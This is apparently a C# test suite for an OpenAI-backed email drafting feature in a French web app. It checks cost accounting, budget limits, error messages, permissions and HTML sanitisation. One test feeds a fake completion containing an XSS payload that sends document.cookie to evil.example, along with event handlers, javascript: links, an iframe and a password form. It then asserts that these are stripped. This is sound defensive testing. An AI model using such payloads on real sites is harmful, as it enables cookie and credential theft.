using System.Globalization;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Presenca.Web.Campaigns.Drafting;
using Presenca.Web.Connexions;
using Presenca.Web.Demo;
using Presenca.Web.Tests.Fakes;
using Bunit;
using Presenca.Web.Tests.Infrastructure;
using static Presenca.Web.Tests.Connexions.ConnexionsForms;

namespace Presenca.Web.Tests.Campaigns.Drafting;

/// <summary>
/// Drafting with OpenAI as the service runs it under a circuit, against the fake OpenAI: what is
/// sent, what is charged, what is refused, and what ends up in the trail.
/// </summary>
public sealed class DraftingTests(DraftingWebFactory factory) : IClassFixture<DraftingWebFactory>
{
    // 400 prompt tokens at 1,000 EUR and 120 completion tokens at 2,000 EUR per million (the fake's usage).
    private const decimal ReportedCost = 0.64m;

    private static readonly Func<DraftText, Task> Ignore = _ => Task.CompletedTask;

    public enum BadInput
    {
        ModelNotAllowed,
        EmptyBrief,
        LongBrief,
        SpentBudget,
        SpentQuota,
        InactiveConnexion,
        NoRight,
    }

    private static DraftBrief Brief() => new()
    {
        Goal = "Inviter nos clients aux portes ouvertes du 12 juin",
        KeyPoints = "saluer {{organisation}} ; rappeler l'adresse {{email}}",
        Tone = "Chaleureux",
        Length = "Courte",
        Model = DraftingWebFactory.Model,
    };

    [Fact]
    public async Task A_draft_streams_sends_only_the_brief_and_client_name_and_is_charged_the_reported_usage_in_the_trail()
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var clientId = page.Caller.ClientId!.Value;
        var connexionId = await factory.ResetConnexionAsync(page.Caller);
        factory.OpenAi.RequestBodies.Clear();
        var states = new List<DraftText>();

        var result = await page.AppServices.GetRequiredService<DraftingService>()
            .DraftAsync(clientId, Brief(), text => { states.Add(text); return Task.CompletedTask; }, CancellationToken.None);

        Assert.True(result.Succeeded, result.Message);
        Assert.Equal(["Portes ouvertes le 12 juin", "{{organisation}}, venez nous voir le 12 juin", "Une journée pour se rencontrer"], result.Subjects);
        Assert.Contains("<p>Bonjour {{organisation}},</p>", result.Html);
        Assert.Contains("envoyée à {{email}}", result.Html);
        Assert.Empty(result.UnknownFields);
        // The text arrived in pieces: the subject first, then a body that grew.
        Assert.Contains(states, s => s.Subject.Length > 0 && !s.BodyStarted);
        Assert.Contains(states, s => s.BodyStarted && s.Body.Length > 0 && !s.Body.Contains("{{email}}"));
        Assert.Equal(ReportedCost, result.Cost);
        Assert.Equal("1|0.6400|active|true", await factory.CountersAsync(connexionId));

        // What went to OpenAI: the brief and the client's name, streamed with usage, capped in tokens.
        var raw = Assert.Single(factory.OpenAi.RequestBodies);
        using var body = JsonDocument.Parse(raw);
        Assert.Equal(DraftingWebFactory.Model, body.RootElement.GetProperty("model").GetString());
        Assert.True(body.RootElement.GetProperty("stream").GetBoolean());
        Assert.True(body.RootElement.GetProperty("stream_options").GetProperty("include_usage").GetBoolean());
        Assert.Equal(400, body.RootElement.GetProperty("max_completion_tokens").GetInt32());
        var sent = string.Join('\n', body.RootElement.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("content").GetString()));
        Assert.Contains(DemoAccounts.AgenceNordNom, sent);
        Assert.Contains("portes ouvertes du 12 juin", sent);
        // No contact data: none of the client's addresses or companies.
        var contacts = await factory.Database.QueryAsOwnerAsync<string[]>(
            $"select array_agg(distinct v) from (select email as v from contacts where client_id = '{clientId}' union select organization_name from contacts where client_id = '{clientId}' and organization_name is not null) x");
        Assert.True(contacts.Length > 5);
        Assert.All(contacts, value => Assert.DoesNotContain(value, raw, StringComparison.OrdinalIgnoreCase));

        // The trail: who, for which client, model, tokens, cost, outcome; never the key or the text.
        var generation = await factory.Database.QueryAsOwnerAsync<string>(
            "select user_id || '|' || client_id || '|' || model || '|' || prompt_tokens || '|' || completion_tokens || '|' || cost || '|' || outcome from openai_generations");
        Assert.Equal($"{page.Caller.UserId}|{clientId}|{DraftingWebFactory.Model}|400|120|0.6400|reussie", generation);
        Assert.Equal(2L, await factory.Database.QueryAsOwnerAsync<long>(
            $"select count(*) from audit_trail where table_name = 'openai_generations' and changed_by = '{page.Caller.UserId}' and client_id = '{clientId}'"));
        var stored = await factory.Database.QueryAsOwnerAsync<string>(
            "select (select string_agg(g::text, ' ') from openai_generations g) || (select string_agg(a::text, ' ') from audit_trail a)");
        Assert.DoesNotContain(FakeOpenAiServer.ValidApiKey, stored);
        Assert.DoesNotContain("portes ouvertes", stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_hostile_completion_loses_scripts_handlers_iframes_and_javascript_links_but_keeps_merge_fields()
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        await factory.ResetConnexionAsync(page.Caller);
        factory.OpenAi.Completion = """
            Objet : Bonjour
            ---
            <p onclick="steal()">Salut {{organisation}}</p><script>fetch('https://evil.example/?c='+document.cookie)</script>
            <iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(1)"><a href="javascript:alert(1)">gagner</a>
            <a href="{{desinscription}}">Se désinscrire</a><form action="https://evil.example/"><input name="mdp"></form>
            """;
        DraftResult result;
        try
        {
            result = await page.AppServices.GetRequiredService<DraftingService>().DraftAsync(page.Caller.ClientId!.Value, Brief(), Ignore, CancellationToken.None);
        }
        finally
        {
            factory.OpenAi.Completion = FakeOpenAiServer.DefaultCompletion;
        }

        Assert.True(result.Succeeded, result.Message);
        foreach (var hostile in new[] { "<script", "onclick", "onerror", "<iframe", "javascript:", "<form", "evil.example" })
        {
            Assert.DoesNotContain(hostile, result.Html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("<p>Salut {{organisation}}</p>", result.Html);
        Assert.Contains("<a href=\"{{desinscription}}\">Se désinscrire</a>", result.Html);
    }

    [Theory]
    [InlineData(FakeOpenAiMode.Unauthorized, "cle_invalide", "OpenAI refuse la clé API de la connexion", false)]
    [InlineData(FakeOpenAiMode.RateLimited, "limite_fournisseur", "Réessayez dans 42 s.", false)]
    [InlineData(FakeOpenAiMode.ServerError, "erreur_fournisseur", "OpenAI a répondu par une erreur (HTTP 500)", false)]
    [InlineData(FakeOpenAiMode.Silent, "delai_depasse", "OpenAI n'a pas terminé dans le délai de 2 s", false)]
    [InlineData(FakeOpenAiMode.Refusal, "refus", "OpenAI a refusé de rédiger cet e-mail : « Je ne peux pas rédiger ce contenu. »", true)]
    [InlineData(FakeOpenAiMode.ContentFilter, "filtre_contenu", "Le filtre de contenu d'OpenAI a interrompu la rédaction", true)]
    [InlineData(FakeOpenAiMode.CutMidway, "interrompue", "La réponse d'OpenAI s'est interrompue avant la fin", false)]
    public async Task A_provider_failure_says_why_in_french_writes_nothing_and_charges_only_the_reported_usage(
        FakeOpenAiMode mode, string outcome, string message, bool reportsUsage)
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var connexionId = await factory.ResetConnexionAsync(page.Caller);
        var drafting = page.AppServices.GetRequiredService<DraftingService>();
        var templates = await factory.Database.QueryAsOwnerAsync<string>("select count(*) || '|' || coalesce(max(updated_at)::text, '') from email_templates");
        DraftResult result;
        factory.OpenAi.Mode = mode;
        try
        {
            result = await drafting.DraftAsync(page.Caller.ClientId!.Value, Brief(), Ignore, CancellationToken.None);
        }
        finally
        {
            factory.OpenAi.Mode = FakeOpenAiMode.Success;
        }

        Assert.False(result.Succeeded);
        Assert.Contains(message, result.Message);
        Assert.Equal("", result.Html);
        Assert.Empty(result.Subjects);
        var cost = reportsUsage ? ReportedCost : 0m;
        Assert.Equal(cost, result.Cost);
        var status = mode == FakeOpenAiMode.Unauthorized ? "cle_invalide" : "active";
        Assert.Equal($"1|{cost.ToString("0.0000", CultureInfo.InvariantCulture)}|{status}|true", await factory.CountersAsync(connexionId));
        Assert.Equal(outcome, await factory.Database.QueryAsOwnerAsync<string>("select outcome from openai_generations"));
        Assert.Equal(templates, await factory.Database.QueryAsOwnerAsync<string>("select count(*) || '|' || coalesce(max(updated_at)::text, '') from email_templates"));
        if (mode == FakeOpenAiMode.Unauthorized)
        {
            var availability = await drafting.GetAvailabilityAsync(page.Caller.ClientId!.Value);
            Assert.StartsWith("OpenAI a refusé la clé de la connexion de l'agence : remplacez-la dans Connexions", availability.Unavailable);
        }
    }

    [Theory]
    [InlineData(BadInput.ModelNotAllowed, "Le modèle « gpt-4o » n'est pas proposé pour cette connexion OpenAI (choix possibles : gpt-4o-mini).")]
    [InlineData(BadInput.EmptyBrief, "Le brief est vide : décrivez au moins l'objectif de l'e-mail.")]
    [InlineData(BadInput.LongBrief, "Le brief fait 4\u202f0")]
    [InlineData(BadInput.SpentBudget, "Budget mensuel OpenAI atteint : 9,50 EUR dépensés sur 10,00 EUR ce mois-ci, et cette rédaction peut coûter jusqu'à")]
    [InlineData(BadInput.SpentQuota, "Limite quotidienne OpenAI atteinte : 3 utilisés sur 3")]
    [InlineData(BadInput.InactiveConnexion, "La connexion OpenAI de l'agence est désactivée, et le réseau ne lui en partage aucune. L'agence ou le directeur de son réseau peut lui ajouter une connexion OpenAI dans Connexions")]
    [InlineData(BadInput.NoRight, "Vous n'avez pas le droit d'utiliser la connexion OpenAI de ce client")]
    public async Task Bad_input_is_refused_in_french_with_nothing_charged_or_written(BadInput input, string message)
    {
        await using var agency = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var clientId = agency.Caller.ClientId!.Value;
        var connexionId = await factory.ResetConnexionAsync(agency.Caller);
        var brief = Brief();
        var who = agency;
        await using var other = await SignedInPage.CreateAsync(factory, DemoAccounts.Independante.Email);
        switch (input)
        {
            case BadInput.ModelNotAllowed:
                brief.Model = "gpt-4o";
                break;
            case BadInput.EmptyBrief:
                (brief.Goal, brief.KeyPoints) = ("  ", "");
                break;
            case BadInput.LongBrief:
                brief.KeyPoints = new string('a', DraftBrief.MaxCharacters);
                break;
            case BadInput.SpentBudget:
                await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_limite_cout_mois = 10, openai_cout_actuel_mois = 9.5, openai_mois_cout = date_trunc('month', now() at time zone 'Europe/Paris')::date where openai_connexion_id = '{connexionId}'");
                break;
            case BadInput.SpentQuota:
                await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_limite_quotidienne = 3, openai_usage_quotidien = 3, openai_reset_quota_at = now() + interval '1 hour' where openai_connexion_id = '{connexionId}'");
                break;
            case BadInput.InactiveConnexion:
                await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_actif = false where openai_connexion_id = '{connexionId}'");
                break;
            case BadInput.NoRight:
                who = other;
                break;
        }

        var before = await factory.CountersAsync(connexionId);
        factory.OpenAi.RequestBodies.Clear();
        var result = await who.AppServices.GetRequiredService<DraftingService>().DraftAsync(clientId, brief, Ignore, CancellationToken.None);

        Assert.False(result.Succeeded);
        Assert.StartsWith(message, result.Message);
        Assert.Equal(before, await factory.CountersAsync(connexionId));
        Assert.Equal(0L, await factory.Database.QueryAsOwnerAsync<long>("select count(*) from openai_generations"));
        Assert.Empty(factory.OpenAi.RequestBodies);
    }

    [Fact]
    public async Task Twenty_parallel_drafts_against_a_nearly_spent_budget_never_spend_past_it()
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var connexionId = await factory.ResetConnexionAsync(page.Caller);
        var drafting = page.AppServices.GetRequiredService<DraftingService>();
        var price = drafting.Pricing.PriceOf(DraftingWebFactory.Model)!;
        var reserve = OpenAiPricing.Cost(price, DraftPrompt.For(Brief(), DemoAccounts.AgenceNordNom).TokenUpperBound, drafting.MaxTokens);
        // Room for one reservation at a time (not two), and, once settled, for about one more.
        var spent = Math.Round(10m - (1.5m * reserve), 4);
        await factory.Database.ExecuteAsOwnerAsync(string.Create(CultureInfo.InvariantCulture,
            $"update openai_connexion set openai_limite_cout_mois = 10, openai_cout_actuel_mois = {spent}, openai_mois_cout = date_trunc('month', now() at time zone 'Europe/Paris')::date where openai_connexion_id = '{connexionId}'"));
        factory.OpenAi.ChunkDelay = TimeSpan.FromMilliseconds(10);
        DraftResult[] results;
        try
        {
            results = await Task.WhenAll(Enumerable.Range(0, 20).Select(_ =>
                Task.Run(() => drafting.DraftAsync(page.Caller.ClientId!.Value, Brief(), Ignore, CancellationToken.None))));
        }
        finally
        {
            factory.OpenAi.ChunkDelay = TimeSpan.Zero;
        }

        // However the 20 interleave, a draft starts only while its whole reserve fits: at most this many can.
        var most = 0;
        while (spent + (most * ReportedCost) + reserve <= 10m)
        {
            most++;
        }

        var succeeded = results.Count(r => r.Succeeded);
        Assert.InRange(succeeded, 1, most);
        Assert.All(results.Where(r => !r.Succeeded), r => Assert.StartsWith("Budget mensuel OpenAI atteint", r.Message));
        var final = await factory.Database.QueryAsOwnerAsync<decimal>($"select openai_cout_actuel_mois from openai_connexion where openai_connexion_id = '{connexionId}'");
        Assert.Equal(spent + (succeeded * ReportedCost), final);
        Assert.True(final <= 10m, $"spent {final} of 10");
        Assert.Equal((long)succeeded, await factory.Database.QueryAsOwnerAsync<long>("select count(*) from openai_generations where outcome = 'reussie'"));
        Assert.Equal(0L, await factory.Database.QueryAsOwnerAsync<long>("select count(*) from openai_generations where outcome <> 'reussie'"));
    }

    [Fact]
    public async Task An_agency_without_its_own_connexion_drafts_through_the_network_shared_one_and_without_it_is_told_who_configures()
    {
        await using var director = await SignedInPage.CreateAsync(factory, DemoAccounts.Directeur.Email);
        await using var agency = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var drafting = agency.AppServices.GetRequiredService<DraftingService>();
        var agencyId = agency.Caller.ClientId!.Value;
        var networkConnexion = await factory.ResetConnexionAsync(director.Caller, type: Data.Tenancy.ClientType.Reseau, shared: true);

        var availability = await drafting.GetAvailabilityAsync(agencyId);
        Assert.Null(availability.Unavailable);
        Assert.Equal("connexion OpenAI partagée du réseau", availability.Source);
        Assert.Equal([DraftingWebFactory.Model], availability.Models);
        var result = await drafting.DraftAsync(agencyId, Brief(), Ignore, CancellationToken.None);
        Assert.True(result.Succeeded, result.Message);
        Assert.Equal("1|0.6400|active|true", await factory.CountersAsync(networkConnexion));

        await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_partage_agences = false where openai_connexion_id = '{networkConnexion}'");
        Assert.Equal(
            "L'agence n'a pas de connexion OpenAI, et le réseau ne lui en partage aucune. L'agence ou le directeur de son réseau peut lui ajouter une connexion OpenAI dans Connexions ; le directeur peut aussi partager celle du réseau avec ses agences.",
            (await drafting.GetAvailabilityAsync(agencyId)).Unavailable);
        var refused = await drafting.DraftAsync(agencyId, Brief(), Ignore, CancellationToken.None);
        Assert.False(refused.Succeeded);
        Assert.Equal("1|0.6400|active|true", await factory.CountersAsync(networkConnexion));
    }

    [Fact]
    public async Task Connexions_shows_the_month_cost_against_its_limit_in_the_currency_and_overview_warns_from_80_percent()
    {
        await using var agency = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        var connexionId = await factory.ResetConnexionAsync(agency.Caller);
        var http = await SignedInClient.SignInAsync(factory, DemoAccounts.Collaborateur.Email);
        await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_limite_cout_mois = 10, openai_cout_actuel_mois = 7.9, openai_mois_cout = date_trunc('month', now() at time zone 'Europe/Paris')::date where openai_connexion_id = '{connexionId}'");
        Assert.DoesNotContain("budget mensuel", PageText(await http.GetStringAsync("/")));

        await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_cout_actuel_mois = 8.5 where openai_connexion_id = '{connexionId}'");
        Assert.Equal("8,50 EUR sur 10,00 EUR", Text(await http.GetStringAsync("/connexions"), "[data-testid=cout-openai]"));
        Assert.Contains($"La connexion OpenAI de {DemoAccounts.AgenceNordNom} a dépensé 8,50 EUR de son budget mensuel de 10,00 EUR (85 %).", PageText(await http.GetStringAsync("/")));

        // Last month's spending does not count this month.
        await factory.Database.ExecuteAsOwnerAsync($"update openai_connexion set openai_mois_cout = openai_mois_cout - interval '1 month' where openai_connexion_id = '{connexionId}'");
        Assert.DoesNotContain("budget mensuel", PageText(await http.GetStringAsync("/")));
    }

    [Fact]
    public async Task Cancelling_in_the_panel_stops_the_stream_at_openai_and_hands_nothing_to_the_editor()
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        await factory.ResetConnexionAsync(page.Caller);
        var accepted = new List<AcceptedDraft>();
        var abandoned = factory.OpenAi.AbortedStreams;
        factory.OpenAi.ChunkDelay = TimeSpan.FromMilliseconds(150);
        try
        {
            var cut = page.Render<AiDraftPanel>(p => p
                .Add(x => x.ClientId, page.Caller.ClientId!.Value)
                .Add(x => x.OnAccepted, (AcceptedDraft draft) => accepted.Add(draft)));
            cut.Find("[data-testid=ai-open]").Click();
            cut.WaitForAssertion(() => Assert.Contains($"ce brief et le nom du client « {DemoAccounts.AgenceNordNom} »", cut.Find("[data-testid=ai-sent]").TextContent));
            cut.Find("#ai-goal").Change("Inviter nos clients aux portes ouvertes");
            cut.Find("[data-testid=ai-generate]").Click();
            cut.WaitForAssertion(() => Assert.Equal("Portes ouvertes le 12 juin", cut.Find("[data-testid=ai-subject]").TextContent));
            cut.Find("[data-testid=ai-cancel]").Click();
            cut.WaitForAssertion(() => Assert.Equal("Rédaction annulée : rien n'a été ajouté au modèle.", cut.Find("[data-testid=ai-error]").TextContent));
            Assert.Empty(cut.FindAll("[data-testid=ai-accept]"));
            await Eventually.UntilAsync(() => factory.OpenAi.AbortedStreams > abandoned, "the fake OpenAI sees the stream abandoned", TimeSpan.FromSeconds(10));
        }
        finally
        {
            factory.OpenAi.ChunkDelay = TimeSpan.Zero;
        }

        Assert.Empty(accepted);
        // OpenAI bills what it produced before the cut, and reports it only at the end: the draft
        // is charged the reserve's bound for what arrived, never nothing, never more than the reserve.
        Assert.Equal("annulee|true|true", await factory.Database.QueryAsOwnerAsync<string>(
            "select outcome || '|' || (cost > 0) || '|' || (cost <= reserved_cost) from openai_generations"));
    }

    [Fact]
    public async Task Without_any_connexion_the_panel_says_what_to_configure_and_who_can()
    {
        await using var page = await SignedInPage.CreateAsync(factory, DemoAccounts.Independante.Email);
        await factory.Database.ExecuteAsOwnerAsync("delete from openai_generations; delete from openai_connexion;");
        var cut = page.Render<AiDraftPanel>(p => p.Add(x => x.ClientId, page.Caller.ClientId!.Value));
        cut.Find("[data-testid=ai-open]").Click();
        cut.WaitForAssertion(() => Assert.Equal(
            "Aucune connexion OpenAI n'est configurée. L'équipe de l'agence peut ajouter une connexion OpenAI dans Connexions.",
            cut.Find("[data-testid=ai-unavailable]").TextContent));
        Assert.Empty(cut.FindAll("[data-testid=ai-generate]"));
    }

    [Fact]
    public async Task Sql_reservation_refuses_a_model_not_allowed_and_a_client_that_is_not_the_callers_whatever_the_app_sends()
    {
        await using var agency = await SignedInPage.CreateAsync(factory, DemoAccounts.Collaborateur.Email);
        await using var other = await SignedInPage.CreateAsync(factory, DemoAccounts.Independante.Email);
        var connexionId = await factory.ResetConnexionAsync(agency.Caller);
        var database = factory.Services.GetRequiredService<Data.PresencaDatabase>();
        var agencyId = agency.Caller.ClientId!.Value;

        async Task<Guid?> ReserveAsync(Data.Tenancy.Caller caller, Guid clientId, string model)
        {
            await using var db = database.CreateContext(caller);
            return await db.Database.SqlQuery<Guid?>(
                $"select reserve_openai_generation({connexionId}, {clientId}, {model}, 400, 0.5) as \"Value\"").SingleAsync();
        }

        Assert.Null(await ReserveAsync(agency.Caller, agencyId, "gpt-4o"));
        Assert.Null(await ReserveAsync(other.Caller, agencyId, DraftingWebFactory.Model));
        Assert.Null(await ReserveAsync(other.Caller, other.Caller.ClientId!.Value, DraftingWebFactory.Model));
        Assert.Equal("0|0.0000|active|false", await factory.CountersAsync(connexionId));
        Assert.NotNull(await ReserveAsync(agency.Caller, agencyId, DraftingWebFactory.Model));
        Assert.Equal("1|0.5000|active|false", await factory.CountersAsync(connexionId));
    }

    [Fact]
    public async Task Both_editors_offer_rediger_avec_l_ia()
    {
        var http = await SignedInClient.SignInAsync(factory, DemoAccounts.Collaborateur.Email);
        foreach (var path in new[] { "/campagnes/modeles/nouveau", "/campagnes/nouvelle" })
        {
            Assert.Equal("Rédiger avec l'IA", Text(await http.GetStringAsync(path), "[data-testid=ai-open]"));
        }
    }
}
